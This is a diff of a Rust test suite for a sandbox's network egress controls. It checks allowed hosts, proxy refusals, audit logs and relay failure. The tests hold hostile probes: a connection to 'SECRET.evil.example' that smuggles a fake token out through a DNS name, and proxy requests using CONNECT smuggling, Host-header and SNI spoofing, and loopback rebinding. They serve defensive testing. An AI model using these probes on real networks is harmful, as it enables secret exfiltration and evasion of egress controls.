@@ -1,5 +1,6 @@
 //! Hosts by name: honest clients that know no proxy reach what is allowed, and hostile acts, each of
-//! which works without a cell, reach nothing. The internet is a network namespace with a fake name
+//! which works without a cell, reach nothing: in a network of the cell's own, and on the floor, where the
+//! supervisor makes the connections. The internet is a network namespace with a fake name
 //! server and fake hosts that note who came.
 
 use crate::support::{cofferdam, namespaces_work, skip};
@@ -31,6 +32,22 @@ code=$?
 kill $server
 exit $code
 "#;
+
+/// The two ways in which names are in force, as flags.
+const APART: &[&str] = &["--require", "namespace-net"];
+
+fn floor() -> Vec<&'static str> {
+    let mut flags = vec!["--off", "namespaces", "--require", "supervision"];
+    if nix::unistd::geteuid().is_root() {
+        // Nothing maps the owner of the test's own files there.
+        flags.extend(["--user", "root"]);
+    }
+    flags
+}
+
+fn both() -> [Vec<&'static str>; 2] {
+    [APART.to_vec(), floor()]
+}
 
 /// What a run in the internet left.
 struct Visit {
@@ -134,7 +151,7 @@ fn found(tool: &str) -> bool {
     std::env::split_paths(&path).any(|dir| dir.join(tool).is_file())
 }
 
-const ALLOWED: [&str; 22] = [
+const ALLOWED: [&str; 20] = [
     "--allow-host",
     "api.example:8080",
     "--allow-host",
@@ -155,8 +172,12 @@ const ALLOWED: [&str; 22] = [
     "mixed.example:8080",
     "--allow-host",
     "203.0.113.7:8080",
-    "--require",
-    "namespace-net",
+];
+/// What there is in a network of the cell's own only: the server listens, and there are datagrams.
+const APART_ONLY: [&str; 3] = [
+    "honest_question_by_datagram",
+    "honest_own_loopback",
+    "honest_own_datagrams",
 ];
 
 /// Each act with whether it worked and how many milliseconds it took.
@@ -195,12 +216,25 @@ fn what_is_allowed_is_reached_and_nothing_else() {
         open.stderr()
     );
 
-    let cell = internet.cell(&ALLOWED, &["python3", script, &cert]);
+    for tier in both() {
+        judge(&internet, &tier, &open_acts);
+    }
+}
+
+fn judge(internet: &Internet, tier: &[&str], open_acts: &BTreeMap<String, (bool, u64)>) {
+    let script = fake("egress_acts.py");
+    let script = script.to_str().unwrap();
+    let cert = internet.cert();
+    let on_the_floor = tier != APART;
+    let flags = [tier, &ALLOWED].concat();
+    let cell = internet.cell(&flags, &["python3", script, &cert]);
     let stderr = cell.stderr();
     let cell_acts = acts(&cell);
     assert_eq!(cell_acts.len(), open_acts.len());
     for (name, (worked, took)) in &cell_acts {
-        assert_eq!(*worked, name.starts_with("honest"), "{name}\n{stderr}");
+        let there = !on_the_floor || !APART_ONLY.contains(&name.as_str());
+        let honest = name.starts_with("honest") && there;
+        assert_eq!(*worked, honest, "{name}\n{stderr}");
         // None waits for what never comes, but for the pause that the act itself makes.
         assert!(*took < 2500, "{name} took {took} ms\n{stderr}");
     }
@@ -249,7 +283,9 @@ fn what_is_allowed_is_reached_and_nothing_else() {
         "denied: connect to ten.example:8080: it is at 10.0.0.1, a private address",
         "denied: connect to meta.example:8080: it is at 169.254.169.254, a link-local address",
     ] {
-        assert!(stderr.contains(told), "{told}\n{stderr}");
+        // There are no datagrams that could be seen.
+        let unseen = on_the_floor && told.contains("datagram");
+        assert_eq!(stderr.contains(told), !unseen, "{told}\n{stderr}");
     }
     assert!(stderr.contains("namespace-net"), "{stderr}");
     assert!(!stderr.contains("checks ports"), "{stderr}");
@@ -290,7 +326,7 @@ fn clients_that_know_no_proxy_reach_the_name() {
     let mut clients: Vec<(&str, Vec<&str>)> = vec![
         ("python3", vec!["python3", "-c", python]),
         ("node", vec!["node", "-e", node]),
-        ("curl", vec!["curl", "-sS", "-m", "5"]),
+        ("curl", vec!["curl", "-fsS", "-m", "5"]),
         ("java", vec!["java", &java]),
     ];
     if built.is_ok_and(|output| output.status.success()) {
@@ -308,12 +344,17 @@ fn clients_that_know_no_proxy_reach_the_name() {
         skip("egress.httpx", "no pinned Python packages");
     }
     let home = home.to_str().unwrap();
-    for (tool, command) in clients {
+    let tiers = both();
+    let clients = clients
+        .iter()
+        .flat_map(|client| tiers.iter().map(move |tier| (client, tier)));
+    for ((tool, command), tier) in clients {
         if !found(tool) {
             skip(&format!("egress.{tool}"), "not installed");
             continue;
         }
-        let mut flags = vec!["--allow-host", "api.example:8080", "--read", &directory];
+        let mut flags = tier.clone();
+        flags.extend(["--allow-host", "api.example:8080", "--read", &directory]);
         if command[0] == pinned {
             flags.extend(["--read", home]);
         }
@@ -350,9 +391,13 @@ fn clients_that_know_no_proxy_reach_the_name() {
             refused.witnesses
         );
         assert!(!refused.witnesses.contains("other.example"), "{command:?}");
-        let told = "denied: look up other.example: allow it with --allow-host other.example";
+        // A client of the floor's proxy does not look names up.
+        let told = [
+            "denied: look up other.example: allow it with --allow-host other.example",
+            "denied: connect to other.example:8080: allow it with --allow-host other.example:8080",
+        ];
         assert!(
-            refused.stderr().contains(told),
+            told.iter().any(|told| refused.stderr().contains(told)),
             "{command:?}: {}",
             refused.stderr()
         );
@@ -365,14 +410,20 @@ fn localhost_is_the_hosts_own_when_it_is_listed() {
         return;
     };
     let get = "import urllib.request; print(urllib.request.urlopen('http://localhost:8080/', timeout=3).read())";
-    let visit = internet.cell(&["--allow-host", "localhost:8080"], &["python3", "-c", get]);
-    let said = visit.stdout();
-    assert!(
-        said.contains("hello from 8080"),
-        "{said}\n{}",
-        visit.stderr()
-    );
+    for tier in both() {
+        let flags = [&tier[..], &["--allow-host", "localhost:8080"]].concat();
+        let visit = internet.cell(&flags, &["python3", "-c", get]);
+        let said = visit.stdout();
+        assert!(
+            said.contains("hello from 8080"),
+            "{said}\n{}",
+            visit.stderr()
+        );
+    }
 }
+
+/// What a detector knows, and a name of a host can hold.
+const SECRET: &str = "xoxb-210987654321-1234567890123-kq3v9zr5w8yt2m7p4n6bxjhd";
 
 /// Around a server that speaks no protocol, the message process hears of refusals too, and of what
 /// passed: on stderr, in the audit log, and in the metrics.
@@ -397,7 +448,9 @@ fn a_wrapped_server_is_explained_logged_and_counted() {
         connect('api.example', 81)\n\
         connect('203.0.113.6', 8081)\n\
         connect('2001:db8::5', 8080)\n\
+        connect('SECRET.evil.example', 80)\n\
         sys.stdin.read()";
+    let code = &code.replace("SECRET", SECRET);
     let ask = "import socket, sys\n\
         s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])\n\
         s.sendall(b'GET /metrics HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n')\n\
@@ -409,9 +462,20 @@ fn a_wrapped_server_is_explained_logged_and_counted() {
         sleep 1; python3 ask.py admin.sock > metrics 2> ask.log; done; } | \"$@\"";
     let program = cofferdam();
     let directory = internet.directory.path().to_str().unwrap();
-    let mut words = vec!["sh", "-c", wait, directory, program.to_str().unwrap()];
-    words.extend(["run", "--config", "c.toml", "--", "python3", "-c", code]);
-    let visit = internet.visit(&words);
+    for tier in both() {
+        for name in ["audit.jsonl", "metrics"] {
+            std::fs::remove_file(file(name)).unwrap_or(());
+        }
+        let mut words = vec!["sh", "-c", wait, directory, program.to_str().unwrap()];
+        words.extend(["run", "--config", "c.toml"]);
+        words.extend(tier);
+        words.extend(["--", "python3", "-c", code]);
+        check_told(&internet, &internet.visit(&words));
+    }
+}
+
+fn check_told(internet: &Internet, visit: &Visit) {
+    let file = |name: &str| internet.directory.path().join(name);
     let told = visit.stderr();
     for line in [
         "denied: look up evil.example: allow it with --allow-host evil.example",
@@ -427,7 +491,12 @@ fn a_wrapped_server_is_explained_logged_and_counted() {
         .map(|line| serde_json::from_str(line).unwrap())
         .filter(|line: &serde_json::Value| line["type"] == "network")
         .collect();
-    assert_eq!(lines.len(), 4, "{lines:?}\n{told}");
+    assert_eq!(lines.len(), 5, "{lines:?}\n{told}");
+    // A name is of the server's choice.
+    for text in [&told, &read("audit.jsonl")] {
+        assert!(text.contains(".evil.example"), "{text}");
+        assert!(!text.contains(SECRET), "{text}");
+    }
     assert_eq!(lines[0]["target"], "evil.example");
     assert_eq!(lines[0]["decision"], "refuse");
     assert_eq!(lines[1]["rule"], "egress.port");
@@ -468,15 +537,15 @@ fn a_range_of_addresses_opens_what_it_holds() {
                 s = socket.create_connection((to, 8080), timeout=3)\n        \
                 s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print(to, s.recv(15))\n    \
             except OSError as error: print(to, 'refused')";
-    let visit = internet.cell(
-        &[
-            "--allow-host",
-            "203.0.113.4/31:8080",
-            "--allow-host",
-            "10.0.0.0/8:8080",
-        ],
-        &["python3", "-c", get],
-    );
+    for tier in both() {
+        let mut flags = tier;
+        flags.extend(["--allow-host", "203.0.113.4/31:8080"]);
+        flags.extend(["--allow-host", "10.0.0.0/8:8080"]);
+        check_range(&internet.cell(&flags, &["python3", "-c", get]));
+    }
+}
+
+fn check_range(visit: &Visit) {
     let said = visit.stdout();
     let told = visit.stderr();
     let worked: Vec<bool> = said.lines().map(|line| line.contains("200 OK")).collect();
@@ -508,9 +577,15 @@ import sys, time\n\
 for line in sys.stdin: print(time.time_ns(), line, end=\"\", file=sys.stderr)'";
     let program = cofferdam();
     let program = program.to_str().unwrap();
-    let mut words = vec!["sh", "-c", stamp, "sh", program, "exec"];
-    words.extend(["--allow-host", "api.example", "--", "python3", "-c", code]);
-    let visit = internet.visit(&words);
+    for tier in both() {
+        let mut words = vec!["sh", "-c", stamp, "sh", program, "exec"];
+        words.extend(tier);
+        words.extend(["--allow-host", "api.example", "--", "python3", "-c", code]);
+        check_delays(&internet.visit(&words));
+    }
+}
+
+fn check_delays(visit: &Visit) {
     let number = |text: &str| text.parse::<i64>().unwrap();
     let said = visit.stdout();
     let told = visit.stderr();
@@ -544,8 +619,13 @@ fn a_private_range_is_open_to_names_when_it_is_listed() {
         for name in ('ten', 'loop'):\n    \
             try: print(urllib.request.urlopen(f'http://{name}.example:8080/', timeout=3).read())\n    \
             except OSError as error: print(repr(error))";
-    let flags = ["--config", config.to_str().unwrap()];
-    let visit = internet.cell(&flags, &["python3", "-c", get]);
+    for tier in both() {
+        let flags = [&tier[..], &["--config", config.to_str().unwrap()]].concat();
+        check_private(&internet.cell(&flags, &["python3", "-c", get]));
+    }
+}
+
+fn check_private(visit: &Visit) {
     let said = visit.stdout();
     let lines: Vec<&str> = said.lines().collect();
     assert_eq!(lines.len(), 2, "{said}\n{}", visit.stderr());
@@ -568,29 +648,28 @@ fn a_relay_that_is_killed_leaves_no_way_out() {
     let Some(internet) = Internet::new() else {
         return;
     };
-    // Outside: finds the relay and kills it, once the server in the cell has begun.
+    // Outside: finds the relay and kills it, once the server in the cell has begun. Whatever relays others
+    // have on this machine do not know that host.
+    let mark = format!("killed-{}.example", std::process::id());
     let script = "\"$@\" & p=$!; sleep 1; for s in /proc/[0-9]*; do \
-        if tr '\\0' ' ' < $s/cmdline 2>/dev/null | grep -q '^cofferdam __egress'; then kill -9 ${s#/proc/}; fi; done; wait $p";
+        if tr '\\0' ' ' < $s/cmdline 2>/dev/null | grep -q \"^cofferdam __egress .*$0\"; then kill -9 ${s#/proc/}; fi; done; wait $p";
     let code = "import time, urllib.request\n\
         def get():\n    \
             try: return urllib.request.urlopen('http://api.example:8080/', timeout=5).read()\n    \
             except OSError as error: return repr(error)\n\
         print(get(), flush=True)\ntime.sleep(2)\nprint(get(), flush=True)";
     let program = cofferdam();
-    let visit = internet.visit(&[
-        "sh",
-        "-c",
-        script,
-        "sh",
-        program.to_str().unwrap(),
-        "exec",
-        "--allow-host",
-        "api.example:8080",
-        "--",
-        "python3",
-        "-c",
-        code,
-    ]);
+    let host = format!("{mark}:8080");
+    for tier in both() {
+        let mut words = vec!["sh", "-c", script, &mark, program.to_str().unwrap(), "exec"];
+        words.extend(tier);
+        words.extend(["--allow-host", "api.example:8080", "--allow-host", &host]);
+        words.extend(["--", "python3", "-c", code]);
+        check_lost_relay(&internet.visit(&words));
+    }
+}
+
+fn check_lost_relay(visit: &Visit) {
     let said = visit.stdout();
     let lines: Vec<&str> = said.lines().collect();
     assert_eq!(lines.len(), 2, "{said}\n{}", visit.stderr());
@@ -599,4 +678,138 @@ fn a_relay_that_is_killed_leaves_no_way_out() {
     let told = "the process that makes connections has ended";
     assert!(visit.stderr().contains(told), "{}", visit.stderr());
     assert_eq!(visit.witnesses.matches("http").count(), 1);
+}
+
+/// What a client may ask of the proxy on the floor, and what it may say behind it.
+#[test]
+fn the_proxy_of_the_floor_knows_no_more_than_the_rules() {
+    let Some(internet) = Internet::new() else {
+        return;
+    };
+    let code = "import os, socket, ssl, sys, urllib.parse
+at = urllib.parse.urlsplit('http://198.19.255.254:3128')
+def ask(*parts):
+    with socket.create_connection((at.hostname, at.port), timeout=3) as stream:
+        stream.settimeout(3)
+        said = []
+        for part in parts:
+            stream.sendall(part.encode())
+            try: said.append(stream.recv(4096).decode())
+            except OSError: said.append('reset')
+        return ' | '.join(part.split('\\r')[0] + (' hello' if 'hello' in part else '') for part in said)
+def hello(name):
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    read, write = ssl.MemoryBIO(), ssl.MemoryBIO()
+    client = context.wrap_bio(read, write, server_hostname=name)
+    try: client.do_handshake()
+    except ssl.SSLWantReadError: pass
+    with socket.create_connection((at.hostname, at.port), timeout=3) as stream:
+        stream.settimeout(3)
+        stream.sendall(b'CONNECT api.example:443 HTTP/1.1\\r\\n\\r\\n')
+        first = stream.recv(4096).split(b'\\r')[0].decode()
+        stream.sendall(write.read())
+        try: return first, len(stream.recv(16)) > 0
+        except OSError: return first, False
+end = '\\r\\nHost: api.example\\r\\n\\r\\n'
+get = 'GET / HTTP/1.1' + end
+print('tunnel', ask('CONNECT api.example:8080 HTTP/1.1' + end, get))
+print('other', ask('CONNECT other.example:443 HTTP/1.1' + end))
+print('port', ask('CONNECT api.example:8081 HTTP/1.1' + end))
+print('address', ask('CONNECT 203.0.113.6:8080 HTTP/1.1' + end))
+print('loopback', ask('CONNECT 127.0.0.1:8080 HTTP/1.1' + end))
+print('rebound', ask('CONNECT loop.example:8080 HTTP/1.1' + end, get.replace('api', 'loop')))
+print('smuggled', ask('CONNECT api.example:8080 HTTP/1.1' + end, 'CONNECT other.example:8080 HTTP/1.1' + end))
+print('host', ask('CONNECT api.example:8080 HTTP/1.1' + end, get.replace('api', 'other')))
+print('plain', ask('GET http://api.example:8080/ HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'))
+print('plain other', ask('GET http://other.example:8080/ HTTP/1.1' + end))
+print('no target', ask(get))
+print('two', ask('GET http://api.example:8080/ HTTP/1.1' + end + 'GET http://other.example:8080/ HTTP/1.1' + end))
+print('name', *hello('api.example'))
+print('other name', *hello('other.example'))
+";
+    let mut flags = floor();
+    for host in ["api.example:8080", "api.example:443", "loop.example:8080"] {
+        flags.extend(["--allow-host", host]);
+    }
+    let visit = internet.cell(&flags, &["python3", "-c", code]);
+    let expected = "\
+tunnel HTTP/1.1 200 Connection established | HTTP/1.1 200 OK hello
+other HTTP/1.1 403 Forbidden
+port HTTP/1.1 403 Forbidden
+address HTTP/1.1 403 Forbidden
+loopback HTTP/1.1 403 Forbidden
+rebound HTTP/1.1 200 Connection established | reset
+smuggled HTTP/1.1 200 Connection established | reset
+host HTTP/1.1 200 Connection established | reset
+plain HTTP/1.1 200 OK hello
+plain other HTTP/1.1 403 Forbidden
+no target HTTP/1.1 400 Bad Request
+two HTTP/1.1 200 OK hello
+name HTTP/1.1 200 Connection established True
+other name HTTP/1.1 200 Connection established False
+";
+    let told = visit.stderr();
+    assert_eq!(visit.stdout(), expected, "{told}");
+    for line in [
+        "denied: connect to other.example:443: allow it with --allow-host other.example:443",
+        "denied: connect to api.example:8081: allow it",
+        "denied: connect to 127.0.0.1:8080: allow it",
+        "denied: connect to loop.example:8080: it is at 127.0.0.1, a loopback address",
+        "denied: connect to api.example:8080: it began with CONNECT",
+        "denied: connect to api.example:443 for other.example (TLS)",
+        "denied: a request to the proxy: its target is neither",
+    ] {
+        assert!(told.contains(line), "{line}\n{told}");
+    }
+    for line in visit.witnesses.lines() {
+        let fine = line.starts_with("dns") || line.contains(" 203.0.113.5 ");
+        assert!(
+            fine || line.starts_with("broken 443") || line.starts_with("tls ['api.example']"),
+            "{line}"
+        );
+    }
+}
+
+/// A pod that forbids to borrow descriptors of another process: the supervisor makes the sockets.
+#[test]
+fn names_are_in_force_where_looking_is_refused() {
+    let Some(internet) = Internet::new() else {
+        return;
+    };
+    let code = "import os, socket, threading, urllib.request
+def get(): return urllib.request.urlopen('http://api.example:8080/', timeout=3).read()
+print(get(), get())
+several = [socket.socket() for _ in range(40)]
+def talk(one):
+    one.connect(('203.0.113.7', 8080))
+    one.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
+    return b'200 OK' in one.recv(4096)
+print(all(talk(one) for one in several))
+twin = socket.socket(); other = socket.socket(fileno=os.dup(twin.fileno()))
+print(talk(other))
+for to in [('203.0.113.6', 8080), ('2001:db8::5', 8080)]:
+    try: socket.create_connection(to, timeout=3); print('connected')
+    except OSError as error: print(error.errno)
+print(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).fileno() > 0, bool(socket.if_nameindex()))
+";
+    let (program, refusing) = (cofferdam(), fake("refusing.py"));
+    let mut words = vec!["python3", refusing.to_str().unwrap()];
+    words.extend([
+        "pidfd_getfd,process_vm_readv",
+        program.to_str().unwrap(),
+        "exec",
+    ]);
+    words.extend(floor());
+    words.extend([
+        "--allow-host",
+        "api.example:8080",
+        "--allow-host",
+        "203.0.113.7:8080",
+    ]);
+    words.extend(["--", "python3", "-c", code]);
+    let visit = internet.visit(&words);
+    let hello = "b'hello from 8080'";
+    let expected = format!("{hello} {hello}\nTrue\nTrue\n13\n13\nTrue True\n");
+    assert_eq!(visit.stdout(), expected, "{}", visit.stderr());
 }
